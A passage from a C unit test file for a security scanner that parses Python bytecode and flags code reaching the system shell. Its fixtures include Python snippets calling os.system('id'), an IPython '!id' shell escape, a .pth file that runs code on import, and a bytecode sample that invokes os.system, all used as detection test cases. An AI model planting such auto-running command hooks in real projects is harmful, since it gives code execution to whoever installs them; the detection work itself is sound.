	0xe9, 0x01, 0x00, 0x00, 0x00, 0x4e, 0x29, 0x01, 0xda, 0x01, 0x78, 0xa9, 0x00, 0xf3, 0x00, 0x00, 0x00, 0x00,
	0xfa, 0x04, 0x78, 0x2e, 0x70, 0x79, 0xfa, 0x08, 0x3c, 0x6d, 0x6f, 0x64, 0x75, 0x6c, 0x65, 0x3e, 0x72, 0x06,
	0x00, 0x00, 0x00, 0x01, 0x00, 0x00, 0x00, 0x73, 0x0e, 0x00, 0x00, 0x00, 0xf0, 0x03, 0x01, 0x01, 0x01, 0xd8,
	0x04, 0x05, 0x80, 0x01, 0x80, 0x01, 0x80, 0x01, 0x72, 0x04, 0x00, 0x00, 0x00,
};

static void format_bytecode(void **state)
{
	(void)state;
	uint8_t copy[sizeof good_pyc + 4];
	struct gh_events ev;
	struct gh_span good = { good_pyc, sizeof good_pyc };
	char log[100];
	gh_events_walk(&ev, &gh_fmt_pyc, good, "x.pyc", true);
	(void)snprintf(log, sizeof log,
		       "code python-bytecode \"x.pyc\" 0+%zu\nclaim 0+16 struct\nclaim 16+%zu struct\n", good.n,
		       good.n - 16);
	assert_string_equal(gh_buf_cstr(&ev.log), log);
	assert_int_equal(ev.rc, GH_OK);
	gh_events_free(&ev);

	gh_events_walk(&ev, &gh_fmt_pyc, gh_span_cut(good, 0, good.n - 3), "x.pyc", true);
	assert_int_equal(ev.rc, GH_E_MALFORMED);
	assert_true(gh_events_has(&ev, "GH-PYB-0001"));
	gh_events_free(&ev);

	memcpy(copy, good_pyc, sizeof good_pyc);
	memcpy(copy + sizeof good_pyc, "rest", 4);
	gh_events_walk(&ev, &gh_fmt_pyc, (struct gh_span){ copy, sizeof copy }, "x.pyc", true);
	assert_true(gh_events_has(&ev, "GH-PYB-0003"));
	gh_events_free(&ev);

	memcpy(copy, "\xf0\x03", 2); /* a number that was never given out */
	gh_events_walk(&ev, &gh_fmt_pyc, (struct gh_span){ copy, sizeof good_pyc }, "x.pyc", true);
	assert_int_equal(ev.rc, GH_OK);
	assert_true(gh_events_has(&ev, "GH-PYB-0002 0+2 magic number 1008"));
	gh_events_free(&ev);
	struct gh_probe p = { good, good, good.n };
	assert_int_equal(gh_fmt_pyc.probe(&p), GH_STRONG);
	struct gh_span noise = GH_SPAN("\xa7\x0d\r\n0000000000000000000000000000");
	assert_int_equal(gh_fmt_pyc.probe(&(struct gh_probe){ noise, noise, noise.n }), GH_NO);
	assert_int_equal(gh_fmt_python.probe(&p), GH_NO);
}

static void bytecode_judged(void **state)
{
	(void)state;
	static const struct {
		const char *what;
		struct gh_span in;
		const char *has;
	} rows[] = {
		{ "a file", { good_pyc, sizeof good_pyc }, "GH-PY-0029 Python 3.11 or later, 1 code objects" },
		{ "a file that reaches the system",
		  { bad_pyc, sizeof bad_pyc },
		  "GH-PY-0030 Python 3.11 or later, 1 code objects: os.system" },
		{ "without a header, as Keras keeps it", { bad_pyc + 16, sizeof bad_pyc - 16 }, "GH-PY-0030" },
		{ "no bytecode", { (const uint8_t *)"nonsense", 8 }, "GH-PY-0025 bytecode that cannot be read" },
		{ "nothing", { (const uint8_t *)"", 0 }, "GH-PY-0025" },
	};
	for (size_t i = 0; i < GH_ROWS(rows); i++) {
		struct said s = { .log = gh_buf(4096) };
		gh_auto_arena a = { .max = 16 << 20 };
		struct gh_pycode_sink sink = { find, &s };
		gh_pybytes_judge(rows[i].in, &sink, &a);
		if (strstr(gh_buf_cstr(&s.log), rows[i].has) == NULL)
			fail_msg("%s: %s", rows[i].what, gh_buf_cstr(&s.log));
		gh_buf_free(&s.log);
	}
}

/* ---- the check ---------------------------------------------------------------------------------------------------------- */
static char found[2000];

static void note(struct gh_scene *s, const struct gh_rule *r, struct gh_range at, const char *text)
{
	(void)s;
	size_t n = strlen(found);
	(void)snprintf(found + n, sizeof found - n, "%s %llu+%llu %s\n", r->id, (unsigned long long)at.off,
		       (unsigned long long)at.len, text);
}

static void events_of_others(void **state)
{
	(void)state;
	static const struct {
		const char *language, *name, *in, *say;
	} rows[] = {
		{ "python", "x.py", "import os\nos.system('id')\n", "GH-PY-0001 110+15" },
		{ "ipython", "cell", "!id\n", "GH-PY-0001 100+3 !id" },
		{ "python", "x.pth", "import os; os.system('id')\nos.system('not run')\n", "GH-PY-0001 111+15" },
		{ "python-bytecode", "lambda", "x", "GH-PY-0025" },
		{ "shell", "x.sh", "id\n", "" },
	};
	for (size_t i = 0; i < GH_ROWS(rows); i++) {
		struct gh_src_mem mem;
		struct gh_span in = gh_span_str(rows[i].in);
		struct gh_code c = { .language = rows[i].language,
				     .name = gh_span_str(rows[i].name),
				     .src = gh_src_mem(&mem, in) };
		struct gh_event ev = { .kind = GH_EV_CODE, .at = { 100, in.n }, .u.code = &c };
		struct gh_scene s = { .format = "python", .find = note };
		found[0] = '\0';
		gh_check_python_code.on(&s, &ev);
		if (strstr(found, rows[i].say) == NULL || (rows[i].say[0] == '\0' && found[0] != '\0'))
			fail_msg("%s %s: %s", rows[i].language, rows[i].name, found);
	}
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(tokens),
		cmocka_unit_test(trees),
		cmocka_unit_test(identifiers),
		cmocka_unit_test(what_attackers_write),
		cmocka_unit_test(what_repositories_hold),
		cmocka_unit_test(long_tables),
		cmocka_unit_test(rules_by_example),
		cmocka_unit_test(notebooks),
		cmocka_unit_test(limits),
		cmocka_unit_test(format_python),
		cmocka_unit_test(format_bytecode),
		cmocka_unit_test(bytecode_judged),
		cmocka_unit_test(events_of_others),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
